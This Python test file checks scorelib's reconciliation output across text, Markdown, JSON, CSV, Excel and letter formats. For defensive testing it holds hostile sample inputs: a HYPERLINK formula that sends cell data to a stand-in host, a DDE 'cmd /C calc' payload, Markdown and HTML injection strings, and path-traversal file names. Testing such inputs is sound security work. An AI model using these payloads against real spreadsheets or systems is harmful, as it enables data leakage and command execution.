"""Reconciliations in every format: what a person reads, what programs and spreadsheets read."""

from __future__ import annotations

import csv
import io
import json
import os
import sys
from dataclasses import replace
from pathlib import Path
from typing import Any

import openpyxl
import pytest

import scorelib
from scorelib.engine.outcome.views import Finding
from scorelib.ground.errors import Diagnostic, Lang, Location, Text
from scorelib.reading.reconciliation.batch.sources import Unreadable
from scorelib.reading.reconciliation.batch.tally import Tally
from scorelib.reading.reconciliation.resubmission import compare_submissions
from scorelib.reading.reconciliation.views import Diagnosis, Explanation, Printing
from scorelib.writing.reconciliation.digests import Digester, Format
from scorelib.writing.reconciliation.figures import find_figures
from scorelib.writing.reconciliation.notes import Notes, name_file, write_note
from scorelib.writing.reconciliation.records import record_reconciliation
from scorelib.writing.reconciliation.streams import (
    CsvWriter,
    JsonWriter,
    MarkdownWriter,
    TextWriter,
    Writer,
)
from scorelib.writing.reconciliation.text import (
    print_reconciliation,
    print_reconciliation_markdown,
    sort_findings,
)
from scorelib.writing.reconciliation.workbooks import Workbook
from scorelib.writing.words import escape_markdown, guard_cell
from tests.docs.test_reference import list_keys
from tests.reports import make_report

ROOT = Path(__file__).resolve().parents[2]
LANGS: tuple[Lang, Lang] = ("zh", "en")
HOSTILE = '=HYPERLINK("http://x.test/"&A1,"点此")'
OVERRIDE = {
    "points": 7,
    "by": {"zh": "评价组", "en": "the panel"},
    "reason": {"zh": "验收材料不全", "en": "records incomplete"},
    "evidence": {"zh": "验收单", "en": "record of acceptance"},
}


def reconcile(report: dict[str, Any]) -> scorelib.Reconciliation:
    project = scorelib.load_project(report)
    return scorelib.reconcile(scorelib.choose(project), project)


@pytest.fixture(scope="module")
def wrong() -> scorelib.Reconciliation:
    """A report that declares 10 where 10 × 90/100 = 9 is computed, and 100 where it is 99."""
    return reconcile(make_report(points={"execution-rate": "10"}))


@pytest.fixture(scope="module")
def hostile() -> scorelib.Reconciliation:
    """A report whose words would be a formula, a row, a table or a heading somewhere."""
    report = make_report(points={"execution-rate": "10"})
    report["project"]["name"] = HOSTILE
    report["project"]["unit"] = "# 甲|乙\n<b>[丙](http://x.test)</b>"
    report["indicators"]["output.quantity"][0]["name"] = "-1+2|丁\n戊"
    report["assessments"][0]["points"]["output.quantity.i"] = "19"
    return reconcile(report)


def explain(*kinds: str) -> Diagnosis:
    """Return a diagnosis of the total with as many explanations."""
    found = tuple(Explanation(kind, (), "100") for kind in kinds)
    return Diagnosis("total", "total", Text("总分", "Total"), "100", "99", found)


def test_declared_beside_computed(wrong: scorelib.Reconciliation) -> None:
    """10 against 9.00, 100 against 99.00, the grade with them; a heading has the sum below it."""
    rows = [line.split() for line in print_reconciliation(wrong, "zh").splitlines()]
    assert ["预算执行率", "得分", "10", "9.00", "9.00", "复算", "不符"] in rows
    assert any(row[:4] == ["总分", "总分", "100", "99.00"] for row in rows)
    assert any(row[0:2] == ["等级", "等级"] and row[-1] == "相符" for row in rows)
    assert any(row[:5] == ["产出指标", "得分", "Σ", "50", "50.00"] for row in rows)
    assert not any(row[0:1] == ["生态效益指标"] for row in rows)


def test_heading_and_findings_in_both_languages(wrong: scorelib.Reconciliation) -> None:
    """Errors first, each with its clause and what would settle it."""
    zh, en = (print_reconciliation(wrong, lang) for lang in LANGS)
    assert "实施单位：甲单位" in zh
    assert "unit: Unit A" in en
    for text, words in ((zh, ("错误 SL516", "注意 SL505")), (en, ("error SL516", "warning SL505"))):
        assert text.index(words[0]) < text.index(words[1])
    assert "依据：" in zh
    assert "rests on: " in en
    assert zh.count("下一步：") == en.count("next: ") == len(wrong.findings)


def test_a_consistent_report_says_so() -> None:
    """No section without content."""
    found = replace(reconcile(make_report()), findings=(), clauses=(), diagnoses=(), printings=())
    assert "没有疑点" in print_reconciliation(found, "zh")
    assert print_reconciliation(found, "en").rstrip().endswith("No findings")
    assert "## No findings" in print_reconciliation_markdown(found, "en")


def test_one_explanation_is_named_several_are_listed(wrong: scorelib.Reconciliation) -> None:
    """Alone, several, none: only the first is named as the explanation."""
    found = replace(wrong, diagnoses=(explain("SL505"), explain("SL501", "SL502"), explain()))
    filled = {"SL505": {"label": "a", "declared": "10", "computed": "9"}}
    parts = dict.fromkeys(("label", "total", "stated", "fixed", "own", "room", "note"), "1")
    filled |= {"SL501": parts, "SL502": parts}
    diagnoses = tuple(
        replace(
            each,
            explanations=tuple(
                replace(one, arguments=tuple(filled[one.kind].items())) for one in each.explanations
            ),
        )
        for each in found.diagnoses
    )
    composed = replace(diagnoses[2], composition=Text("由来", "made of"))
    carried = replace(diagnoses[2], inherited=("output",))
    found = replace(found, diagnoses=(*diagnoses[:2], composed, carried))
    zh, en = (print_reconciliation(found, lang) for lang in LANGS)
    assert "只有一种解释恰好得出 100：" in zh
    assert "以下 2 种都恰好得出 100，不作认定：" in zh
    assert "常见的差错没有一种恰好得出 100" in zh
    assert "2 explanations yield 100 exactly, none is asserted:" in en
    assert "合计带着下级的差异：产出指标" in zh
    assert "made of" in en
    verdicts = [each["verdict"] for each in record_reconciliation(found)["diagnoses"]]
    assert ["alone", "several", "none", "none"] == verdicts
    assert 1 == zh.count("常见的差错没有一种")


def test_statements_stand_together(wrong: scorelib.Reconciliation) -> None:
    """Printings of one subject below its name, with words, place, agreement and why."""
    label, why = Text("执行数", "spent"), Text("计分所用", "scored with")
    one = Printing(
        "a",
        "x",
        label,
        "90万元",
        Text("支出90万元", "spent 90"),
        Text("三", "part 3"),
        label,
        "agrees",
        True,
        why,
    )
    two = replace(one, id="b", text="9", words=None, at=None, agreement="differs", is_used=False)
    zh = print_reconciliation(replace(wrong, printings=(one, two)), "zh")
    first = "    - 90万元 “支出90万元”（三）：相符，计分采用；计分所用"
    assert f"  执行数\n{first}\n    - 9：不符；计分所用\n" in zh


def test_an_override_stays_beside_the_computed_figure() -> None:
    """Who, why and on what evidence, with both figures, in text and in JSON."""
    found = reconcile(make_report(overrides={"output.quality.i": OVERRIDE}))
    zh = print_reconciliation(found, "zh")
    assert "output.quality指标：10.00 → 7.00" in zh
    assert "评价组：验收材料不全" in zh
    assert "佐证：验收单" in zh
    record = record_reconciliation(found)
    (line,) = [each for each in record["lines"] if each["override"]]
    assert ("10", "7.00", "the panel") == (
        line["computed"],
        line["counted"]["en"],
        line["override"]["by"]["en"],
    )


def test_the_record_has_no_numbers_and_both_languages(wrong: scorelib.Reconciliation) -> None:
    """Figures are text; counts alone are numbers; each finding has its figures and clauses."""
    text = json.dumps(record_reconciliation(wrong))
    record = json.loads(text, parse_float=pytest.fail)
    assert "scorelib/reconciliation/1" == record["schema"]
    assert ("99.00", {"zh": "甲单位", "en": "Unit A"}) == (record["total"], record["unit"])
    (error,) = [each for each in record["findings"] if each["code"] == "SL516"]
    assert ("100", "99") == (error["declared"]["en"][:3], error["computed"]["en"][:2])
    assert error["clauses"][0]["status"]
    assert record["counts"]["error"] == wrong.errors
    assert record["since"] is None


def test_what_became_of_a_resubmission_is_shown(wrong: scorelib.Reconciliation) -> None:
    """Resolved, remaining and new; declared figures from and to; in text, Markdown, JSON, rows."""
    since = compare_submissions(wrong, reconcile(make_report()))
    found = since.reconciliation
    zh = print_reconciliation(found, "zh", since)
    assert "与上次报送相比" in zh
    assert "预算执行率（单位自评）：10 → 9" in zh
    assert "SL891" in print_reconciliation_markdown(found, "en", since)
    record = record_reconciliation(found, since)
    assert ["10", "9"] == [record["since"]["declared"][0][key] for key in ("before", "after")]
    rows = Digester("csv", "en")("a", found, since).rows
    resolved = [row for row in rows if row[3] == "resolved"]
    assert {"SL505", "SL516"} <= {row[5] for row in resolved}
    assert len(rows) == len(found.findings) + len(since.resolved)
    assert Digester("text", "en")("a", found, since).cells[6] == str(len(since.resolved))


def test_findings_are_sorted_with_their_clauses(wrong: scorelib.Reconciliation) -> None:
    """A clause stays with its finding."""
    pairs = set(zip(wrong.findings, wrong.clauses, strict=True))
    assert pairs == {(each.finding, each.clauses) for each in sort_findings(wrong)}


def test_figures_are_not_sentences() -> None:
    """Both figures where there are two, else what there is; words are not taken for figures."""
    pair = Finding(
        "SL505", "warning", (("label", "a"), ("declared", "10"), ("computed", "9")), None
    )
    assert ("10", "9") == find_figures(pair, "zh")
    told = Finding("SL544", "warning", (("value", "全部完成，按时验收"), ("used", "3个")), None)
    assert ("", "") == find_figures(told, "zh")
    alone = Finding("SL548", "info", (("value", Text("约3", "about 3")),), None)
    assert ("about 3", "") == find_figures(alone, "en")


def write_all(form: Format, found: scorelib.Reconciliation, lang: Lang = "zh") -> str:
    """Return what a format writes of one project and of something unreadable."""
    stream, tally = io.StringIO(), Tally()
    makers: dict[str, Any] = {
        "text": lambda: TextWriter(stream, lang),
        "markdown": lambda: MarkdownWriter(stream, lang),
        "json": lambda: JsonWriter(stream),
        "csv": lambda: CsvWriter(stream, lang),
    }
    writer: Writer = makers[form]()
    digest = Digester(form, lang)("place", found, None)
    bad = Unreadable("坏|了", (Diagnostic("SL009", (), Location("坏|了", 1, 1)),))
    for _ in range(2):
        writer.add(digest)
        tally.add(digest.project, digest.unit, digest.counted)
        writer.add_unreadable(bad)
        tally.add_unreadable(is_absent=False)
    writer.finish(tally)
    writer.close()
    return stream.getvalue()


def test_hostile_words_in_a_csv(hostile: scorelib.Reconciliation) -> None:
    """Every row has all columns, none of its cells is a formula, and the first sign is the mark."""
    text = write_all("csv", hostile)
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert {16} == {len(row) for row in rows}
    told = len(hostile.findings) + len(hostile.diagnoses)
    assert 1 + 2 * (told + 1) == len(rows) == text.count("\n")
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "@", "-"))]
    assert f"'{HOSTILE}" == rows[1][1]
    assert "'-1+2|丁 戊" in {row[7] for row in rows}


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t=", "\r\n+", " -", "＝", "＠"])
def test_no_sign_begins_a_formula(sign: str) -> None:
    """Neither at once nor behind a blank, nor in its wide form."""
    assert guard_cell(f"{sign}cmd|' /C calc'!A0").startswith("'")


@pytest.mark.parametrize("figure", ["-5", "-0.25", "-3%", "9.5", "≥266米", "1-2", ""])
def test_figures_stay_as_they_are(figure: str) -> None:
    """A plain figure is no formula."""
    assert figure == guard_cell(figure)


def test_hostile_words_in_markdown(hostile: scorelib.Reconciliation) -> None:
    """No table, link or heading comes from the words of a report."""
    for text in (
        write_all("markdown", hostile),
        print_reconciliation_markdown(hostile, "zh"),
    ):
        assert "<b>" not in text.replace("\\<b>", "")
        assert "\n# 甲" not in text
        assert "[丙](" not in text
        rows = [line for line in text.splitlines() if line.startswith("|")]
        widths = {line.replace("\\|", "").count("|") for line in rows if "---" not in line}
        assert widths <= {6, 7, 8, 13}
    assert r"1\. x" == escape_markdown("1. x")
    assert r"\# x" == escape_markdown("\n# x")
    assert "a-b_c 1.5" == escape_markdown("a-b_c 1.5")


def test_hostile_words_in_text(hostile: scorelib.Reconciliation) -> None:
    """A project is one line, whatever is in its name."""
    lines = write_all("text", hostile).splitlines()
    assert 2 == sum(HOSTILE in line and line.startswith("a ") for line in lines)
    assert not [line for line in lines if line.startswith(("<b>", "戊"))]


def test_the_json_of_many_is_one_document(hostile: scorelib.Reconciliation) -> None:
    """Two projects, two that could not be read, and the counts; also of none at all."""
    record = json.loads(write_all("json", hostile))
    assert ["schema", "engine", "projects", "unreadable", "summary"] == list(record)
    assert 2 == len(record["projects"]) == len(record["unreadable"])
    assert record["projects"][0] == record_reconciliation(hostile)
    assert 2 == record["summary"]["projects"]
    stream = io.StringIO()
    writer = JsonWriter(stream)
    writer.finish(Tally())
    writer.close()
    assert ([], []) == tuple(
        json.loads(stream.getvalue())[key] for key in ("projects", "unreadable")
    )


def fill_workbook(path: Path, found: scorelib.Reconciliation, most_rows: int = 100) -> Any:
    """Write a workbook with one project and return it as read again."""
    tally = Tally()
    book = Workbook(path, "en", most_rows)
    digest = Digester("xlsx", "en")("place", found, None)
    book.add(digest)
    tally.add(digest.project, digest.unit, digest.counted)
    book.add_unreadable(Unreadable("bad", (Diagnostic("SL009"),)))
    book.finish(tally)
    book.close()
    return openpyxl.load_workbook(path)


def test_a_workbook_holds_text_as_text(tmp_path: Path, hostile: scorelib.Reconciliation) -> None:
    """Four sheets; nothing in them is a formula or a link; counts are numbers."""
    book = fill_workbook(tmp_path / "a.xlsx", hostile)
    assert ["summary", "By unit", "projects", "Findings"] == book.sheetnames
    cells = [cell for sheet in book for row in sheet for cell in row if cell.value is not None]
    assert {"s", "n"} == {cell.data_type for cell in cells}
    assert not [cell for cell in cells if cell.hyperlink]
    findings = list(book["Findings"].values)
    assert 2 + len(hostile.findings) + len(hostile.diagnoses) == len(findings)
    assert HOSTILE == findings[1][1]
    assert {2, 3} == {
        place for place in range(5) if isinstance(list(book["summary"].values)[1][place], int)
    }


def test_a_full_sheet_goes_on_in_the_next(tmp_path: Path, hostile: scorelib.Reconciliation) -> None:
    """No row is lost where a sheet has no room for it."""
    book = fill_workbook(tmp_path / "a.xlsx", hostile, most_rows=2)
    sheets = [name for name in book.sheetnames if name.startswith("Findings")]
    assert 1 + len(hostile.findings) + len(hostile.diagnoses) == len(sheets)
    assert {2} == {book[name].max_row for name in sheets}
    assert 1 == len({tuple(next(book[name].values)) for name in sheets})


def test_a_workbook_without_its_library(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """What is missing is named with how to install it."""
    monkeypatch.setitem(sys.modules, "xlsxwriter", None)
    with pytest.raises(scorelib.NotFoundError, match=r"SL916.*XlsxWriter.*scorelib\[report\]"):
        Workbook(tmp_path / "a.xlsx", "en")
    assert [] == list(tmp_path.iterdir())


def test_a_letter_goes_through_the_points(tmp_path: Path, wrong: scorelib.Reconciliation) -> None:
    """Errors first, numbered, both figures, clause and step; two projects; a closing, no day."""
    notes = Notes(tmp_path, "zh")
    for found in (wrong, reconcile(make_report("b", points={"execution-rate": "10"}))):
        note = write_note(found, None, "zh")
        assert note is not None
        notes.add(note)
    part = f".{os.getpid()}.part"
    names = {each.name for each in tmp_path.iterdir()}
    assert {f".甲单位.md{part}", f".甲单位.txt{part}"} == names
    notes.finish()
    notes.close()
    assert {"甲单位.md", "甲单位.txt"} == {each.name for each in tmp_path.iterdir()}
    text = (tmp_path / "甲单位.txt").read_text("utf-8")
    assert text.startswith("退回修改意见\n\n甲单位：\n")
    assert text.index("一、项目a（编号 a，评价年度 2021）") < text.index("二、项目b")
    first = text[text.index("1. ") :]
    assert first.startswith("1. 【错误】申报总分 100")
    assert "   两处的数：填报 10；复算或对照 9.00" in text
    assert "   依据：" in text
    assert "   办理意见：" in text
    assert text.rstrip().endswith("感谢支持与配合。")
    markdown = (tmp_path / "甲单位.md").read_text("utf-8")
    assert markdown.startswith("# 退回修改意见\n")
    assert "\n## 一、项目a" in markdown


def test_no_letter_without_a_point() -> None:
    """Notes alone are nothing to be sent back."""
    found = reconcile(make_report())
    words = (("id", "a"),)
    only = replace(found, findings=(Finding("SL890", "info", words, None),), clauses=((),))
    assert write_note(only, None, "zh") is None


def test_a_letter_to_a_project_without_a_unit(tmp_path: Path) -> None:
    """It is addressed by the name of the project; hostile names make safe files."""
    report = make_report(points={"execution-rate": "10"})
    report["project"] = {"id": "x", "name": "../=a<b>|c:\n"}
    note = write_note(reconcile(report), None, "zh")
    assert note is not None
    notes = Notes(tmp_path / "deep" / "letters", "zh")
    notes.add(note)
    notes.finish()
    found = sorted(each.name for each in (tmp_path / "deep" / "letters").iterdir())
    assert ["=a_b_c.md", "=a_b_c.txt"] == found


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("甲单位", "甲单位"),
        ("a/b\\c", "a_b_c"),
        ("..", "unit"),
        ("", "unit"),
        ("con", "_con"),
        ("LPT1.txt", "_LPT1.txt"),
        ("end. ", "end"),
        (".hidden", "hidden"),
        ("-rf", "rf"),
        ("财" * 100, "财" * 40),
    ],
)
def test_names_of_files(name: str, expected: str) -> None:
    """Safe on every system: no separators, devices, dots at the ends; short enough."""
    assert expected == name_file(name, set())


def test_names_of_files_are_unique() -> None:
    """Names that differ in case or width alone are two files on no system's terms."""
    taken: set[str] = set()
    names = [name_file(each, taken) for each in ("Ａ", "a", "A", "a-2", "ß", "SS")]
    folded = {each.casefold() for each in names}
    assert 6 == len(set(names)) == len(folded)


def test_every_key_is_described(wrong: scorelib.Reconciliation) -> None:
    """Each key of the JSON stands on its page, or on that of a result where it is the same."""
    since = compare_submissions(wrong, reconcile(make_report()))
    found = replace(since.reconciliation, diagnoses=(explain("SL890"),))
    explained = replace(found.diagnoses[0].explanations[0], arguments=(("id", "a"),))
    found = replace(found, diagnoses=(replace(found.diagnoses[0], explanations=(explained,)),))
    label = Text("甲", "A")
    one = Printing("a", "x", label, "9", label, label, label, "agrees", True, label)
    record = record_reconciliation(replace(found, printings=(one,)), since)
    pages = [ROOT / "docs" / "reference" / f"{name}.md" for name in ("reconciliation", "result")]
    text = "".join(page.read_text("utf-8") for page in pages)
    many = json.loads(write_all("json", wrong))
    many["projects"] = [record]
    assert set() == {key for key in list_keys(many) if f"`{key}`" not in text}
